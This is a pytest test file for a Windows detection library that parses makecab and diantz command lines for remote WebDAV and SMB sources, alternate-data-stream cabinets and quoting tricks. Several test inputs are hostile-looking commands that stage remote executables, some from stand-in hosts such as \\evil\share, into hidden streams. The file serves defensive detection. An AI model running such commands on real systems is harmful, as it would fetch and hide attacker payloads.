"""analyze_job: the one call detection makes per process-creation event."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from cabhunt.windows.job import analyze_job

DATA = Path(__file__).parent / "data"


def _loader(mapping: dict[str, bytes]) -> tuple[Callable[[str], bytes | None], list[str]]:
    calls: list[str] = []

    def load(path: str) -> bytes | None:
        calls.append(path)
        return mapping.get(path.lower())

    return load, calls


def test_single_file_remote_source_and_cabinet() -> None:
    job = analyze_job(
        "makecab.exe \\\\203.0.113.8@SSL\\DavWWWRoot\\a.exe %TEMP%\\a.txt:a.cab",
        image="C:\\Windows\\System32\\makecab.exe",
        cwd="C:\\Users\\bob\\",
    )
    assert job.maker == "makecab" and job.flagged and job.remote_input and job.ads_cabinet
    (src,) = job.sources
    assert (src.kind, src.host, src.port, src.ip_literal, src.scope, src.via) == ("webdav", "203.0.113.8", 443, True, "external", "cmdline")
    (cab,) = job.cabinets
    assert cab.ads and cab.stream == "a.cab" and cab.user_writable
    ref = cab.to_cabinet_ref()
    assert ref.ads and ref.user_writable


def test_default_destination_resolved_against_cwd() -> None:
    job = analyze_job("makecab \\\\h\\s\\tool.exe", cwd="C:\\Users\\Public\\")
    assert job.cabinets[0].written == "tool.ex_"
    assert job.cabinets[0].resolved == "C:\\Users\\Public\\tool.ex_"
    job = analyze_job("makecab /L D:\\out \\\\h\\s\\tool.exe", cwd="C:\\w")
    assert job.cabinets[0].resolved == "D:\\out\\tool.ex_"


def test_unc_working_directory_and_drive_map() -> None:
    job = analyze_job("makecab payload.exe out.cab", cwd="\\\\evil\\share\\")
    assert job.sources[0].kind == "smb" and job.cabinets[0].kind == "smb" and job.flagged
    job = analyze_job("makecab X:\\a.exe C:\\o\\a.cab", drive_map={"X:": "\\\\10.1.1.1\\tools"})
    assert job.sources[0].kind == "smb" and job.sources[0].mapped_drive == "X:" and job.sources[0].ip_literal


def test_ddf_mode_with_loader_and_defines() -> None:
    ddf = (DATA / "remote_sourcedir.ddf").read_bytes()
    load, calls = _loader({"c:\\jobs\\stage.ddf": ddf})
    job = analyze_job("makecab /F stage.ddf", cwd="C:\\jobs", ddf_loader=load)
    assert calls == ["C:\\jobs\\stage.ddf"]
    assert job.ddf is not None and job.ddf_unknown == []
    assert [s.kind for s in job.sources] == ["smb", "smb", "local"]
    assert [s.via for s in job.sources] == ["stage.ddf"] * 3
    assert [c.resolved for c in job.cabinets] == ["C:\\Users\\Public\\Libraries\\update.cab"]
    assert job.flagged


def test_ddf_unknown_with_remote_sourcedir() -> None:
    job = analyze_job("diantz.exe /D SourceDir=\\\\10.0.0.99\\drop /F C:\\Users\\Public\\job.ddf")
    assert job.maker == "diantz" and job.ddf is None
    assert job.ddf_unknown == ["C:\\Users\\Public\\job.ddf"]
    assert job.source_dir is not None and job.source_dir.kind == "smb"
    (src,) = job.sources
    assert src.via == "/D SourceDir" and src.written == "\\\\10.0.0.99\\drop"
    assert job.flagged and job.cabinets == []


def test_sourcedir_overrides_and_partial_ddfs() -> None:
    load, _ = _loader({"c:\\w\\a.ddf": b"x.exe\n"})
    job = analyze_job("makecab /D SourceDir=\\\\h\\s /F a.ddf /F b.ddf", cwd="C:\\w", ddf_loader=load)
    assert job.ddf_unknown == ["b.ddf"]
    assert job.sources[0].resolved == "\\\\h\\s\\x.exe"
    assert any(s.via == "/D SourceDir" for s in job.sources)


def test_loader_failures_are_notes() -> None:
    def boom(path: str) -> bytes | None:
        raise OSError("disk on fire")

    job = analyze_job("makecab /F x.ddf", cwd="C:\\w", ddf_loader=boom)
    assert job.ddf is None and job.ddf_unknown == ["x.ddf"]
    assert any("disk on fire" in n for n in job.notes)


def test_remote_directive_file() -> None:
    job = analyze_job("makecab -F \"\\\\corp-fs\\pub$\\pkg.ddf\"")
    assert job.remote_directive_files and job.flagged


def test_single_mode_sourcedir_both_readings() -> None:
    job = analyze_job("makecab /D SourceDir=\\\\h\\s a.exe a.cab", cwd="C:\\w")
    assert [s.best for s in job.sources] == ["C:\\w\\a.exe", "\\\\h\\s\\a.exe"]
    assert job.notes


def test_not_a_cabinet_maker_is_never_flagged() -> None:
    job = analyze_job("findstr \\\\h\\s\\f.txt", image="C:\\Windows\\System32\\findstr.exe")
    assert job.maker is None and not job.flagged


def test_to_dict_keys() -> None:
    doc = analyze_job("makecab a b").to_dict()
    assert set(doc) >= {"invocation", "sources", "cabinets", "directive_files", "ddf", "ddf_unknown", "flagged"}


@given(
    st.text(),
    st.one_of(st.none(), st.text()),
    st.one_of(st.none(), st.text()),
    st.one_of(st.none(), st.text()),
    st.one_of(st.none(), st.binary(max_size=200)),
)
@settings(max_examples=300, deadline=None)
def test_never_raises(line: str, image: str | None, ofn: str | None, cwd: str | None, content: bytes | None) -> None:
    job = analyze_job(
        "makecab " + line,
        image=image,
        original_file_name=ofn,
        cwd=cwd,
        drive_map={"Q:": "\\\\h\\s"},
        ddf_loader=lambda _p: content,
    )
    assert not any(n.startswith("internal error") for n in job.notes)
    job.to_dict()


def test_quoting_discrepancy_keeps_both_readings() -> None:
    # UCRT: one argument 'a" \\h\s\x.exe'; CommandLineToArgvW: 'a"' then \\h\s\x.exe as destination
    line = 'makecab "a"" \\\\h\\s\\x.exe'
    job = analyze_job(line, cwd="C:\\w")
    inv = job.invocation
    assert inv.alternate is not None and inv.notes
    assert inv.argv[1:] == ['a" \\\\h\\s\\x.exe']
    assert inv.alternate.argv[1:] == ['a"', "\\\\h\\s\\x.exe"]
    assert any(c.kind == "smb" and c.via == "cmdline (alternate quoting)" for c in job.cabinets)
    line = 'makecab /F "x.ddf"" /F \\\\h\\s\\y.ddf'
    job = analyze_job(line, cwd="C:\\w")
    assert job.remote_directive_files and job.flagged


def test_sourcedir_overridden_by_known_ddf_does_not_count() -> None:
    load, _ = _loader({"c:\\w\\a.ddf": b".Set SourceDir=C:\\src\nx.exe\n"})
    job = analyze_job("makecab /D SourceDir=\\\\h\\s /F a.ddf", cwd="C:\\w", ddf_loader=load)
    assert job.source_dir is not None and job.source_dir.remote and not job.source_dir_used
    assert not job.remote_input and not job.flagged
    load, _ = _loader({"c:\\w\\a.ddf": b"x.exe\n"})
    job = analyze_job("makecab /D SourceDir=\\\\h\\s /F a.ddf", cwd="C:\\w", ddf_loader=load)
    assert job.source_dir_used and job.flagged
    job = analyze_job("makecab /D SourceDir=\\\\h\\s C:\\abs\\a.exe a.cab", cwd="C:\\w")
    assert not job.source_dir_used and not job.flagged


@given(st.lists(st.sampled_from(["/F", "-f", "/D", "SourceDir=", "/L", "/V3", "/?", "\\\\h@SSL\\DavWWWRoot", "x.ddf", '"', '""', " ",
                                 "\\\\?\\UNC\\", "C:", "a.txt:s.cab", "%", "\uff02", "\u2013F", "file://[", "http://h:1"]), max_size=16).map("".join))
@settings(max_examples=400, deadline=None)
def test_never_raises_on_switch_soup(tail: str) -> None:
    job = analyze_job("diantz.exe " + tail, cwd="\\\\h\\s\\", ddf_loader=lambda p: tail.encode("utf-8", "replace"))
    assert not any(n.startswith("internal error") for n in job.notes)
    assert job.ddf is None or "internal_error" not in job.ddf.issue_kinds()
